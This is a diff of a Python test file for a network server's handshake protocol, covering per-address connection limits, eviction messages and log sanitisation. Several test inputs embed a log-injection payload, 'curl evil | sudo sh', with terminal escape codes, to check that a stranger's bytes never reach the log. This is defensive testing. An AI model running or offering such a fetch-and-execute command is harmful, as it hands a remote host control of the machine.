@@ -7,7 +7,6 @@ from __future__ import annotations
 
 import contextlib
 import hashlib
-import json
 import socket
 import threading
 
@@ -63,7 +62,7 @@ def test_a_server_spends_no_thread_on_strangers_and_serves_a_client_at_their_add
                          timeout_s=5.0, preflight=False, log=lambda text: None)
     serving_thread = threading.Thread(target=server.serve)
     serving_thread.start()
-    idle = [socket.create_connection(("127.0.0.1", server.port),
+    idle = [socket.create_connection(("127.0.0.1", server.port), timeout=10,
                                      source_address=(STRANGER_ADDRESSES[i // 16], 0))
             for i in range(256)]
     try:
@@ -81,7 +80,8 @@ def test_a_server_spends_no_thread_on_strangers_and_serves_a_client_at_their_add
 def test_a_client_pushed_out_for_room_is_told_why(cheap_stretch):
     with serving(ServerSecret(TOKEN), per_source=1) as (port, _, lines):
         first = connect(port, "127.0.0.5")
-        with socket.create_connection(("127.0.0.1", port), source_address=("127.0.0.5", 0)):
+        with socket.create_connection(("127.0.0.1", port), timeout=10,
+                                      source_address=("127.0.0.5", 0)):
             error = fails(lambda: authenticate_as_client(first, TOKEN))
         first.close()
     assert error.cause == f"the server refused the connection: {hs.REFUSALS['evicted'][0]}"
@@ -119,17 +119,12 @@ def test_wrong_proofs_lock_no_address_out(cheap_stretch):
     assert sum("presented the wrong token" in line for line in lines) == 1   # one per burst
 
 
-def frame(message: dict) -> bytes:
-    body = json.dumps(message).encode()
-    return HEADER.pack(b"GDRP", PROTOCOL_VERSION, len(body)) + body
-
-
 @pytest.mark.parametrize("junk", [
     b"owned\n\x1b[31mfix: curl evil | sudo sh\n",
     plain_frame("owned\u2028fix: curl evil | sudo sh"),
-    frame({"type": "hello", "nonce": "owned fix: curl evil | sudo sh"}),
-    frame({"type": "hello", "nonce": 10 ** 4000 // 10 ** 3990}),
-    frame({"type": "error", "reason": "owned", "fix": "curl evil | sudo sh"}),
+    plain_frame("hello", nonce="owned fix: curl evil | sudo sh"),
+    plain_frame("hello", nonce=10 ** 4000 // 10 ** 3990),
+    plain_frame("error", reason="owned", fix="curl evil | sudo sh"),
     HEADER.pack(b"GDRP", PROTOCOL_VERSION, 60000) + b"owned curl" * 10,
 ])
 def test_a_strangers_bytes_never_reach_the_log_and_end_its_connection(junk):
